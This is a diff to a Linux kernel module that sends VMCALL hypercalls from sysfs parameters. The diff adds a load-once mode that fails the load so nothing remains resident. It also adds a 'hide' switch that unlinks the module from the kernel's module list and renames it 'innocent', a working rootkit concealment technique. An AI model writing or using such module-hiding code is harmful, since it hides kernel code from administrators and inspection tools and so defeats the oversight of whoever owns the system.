@@ -2,20 +2,23 @@
 /*
  * Executes VMCALL with given RAX and RBX on a given CPU, from sysfs: write rax and rbx, then the
  * CPU's number to call, or to call_nowait if it may never come back; read answer, and fault, which
- * tells whether the CPU raised an exception instead.
+ * tells whether the CPU raised an exception instead. With now=1 it does so as it is loaded, once, and
+ * is gone. Writing 1 to hide takes it off the kernel's list under another name; 0 undoes that.
  */
 #include <linux/module.h>
+#include <linux/rculist.h>
 #include <linux/smp.h>
 #include <asm/asm.h>
 
 static ulong rax, rbx, answer;
-static bool fault;
+static bool fault, now;
 module_param(rax, ulong, 0600);
 module_param(rbx, ulong, 0600);
 module_param(answer, ulong, 0400);
 module_param(fault, bool, 0400);
+module_param(now, bool, 0400);
 
-static void execute(void *unused)
+static __always_inline void vmcall(void)
 {
 	ulong a = rax;
 	bool f = true;
@@ -27,6 +30,11 @@ static void execute(void *unused)
 		     : "+q" (f), "+a" (a) : "b" (rbx) : "cc", "memory");
 	answer = a;
 	fault = f;
+}
+
+static void execute(void *unused)
+{
+	vmcall();
 }
 
 static int call_on(const char *value, bool wait)
@@ -51,9 +59,32 @@ static const struct kernel_param_ops call_nowait_ops = { .set = call_nowait };
 module_param_cb(call, &call_ops, NULL, 0200);
 module_param_cb(call_nowait, &call_nowait_ops, NULL, 0200);
 
+static int hide(const char *value, const struct kernel_param *kp)
+{
+	static struct list_head *before;
+
+	if (!before == (*value == '0'))
+		return -EINVAL;
+	if (before) {
+		list_add_rcu(&THIS_MODULE->list, before);
+		strscpy(THIS_MODULE->name, KBUILD_MODNAME, MODULE_NAME_LEN);
+		before = NULL;
+	} else {
+		before = THIS_MODULE->list.prev;
+		list_del_rcu(&THIS_MODULE->list);
+		strscpy(THIS_MODULE->name, "innocent", MODULE_NAME_LEN);
+	}
+	return 0;
+}
+
+static const struct kernel_param_ops hide_ops = { .set = hide };
+module_param_cb(hide, &hide_ops, NULL, 0200);
+
 static int __init hypercall_init(void)
 {
-	return 0;
+	if (now)
+		vmcall();
+	return now ? -ECANCELED : 0;
 }
 
 static void __exit hypercall_exit(void)
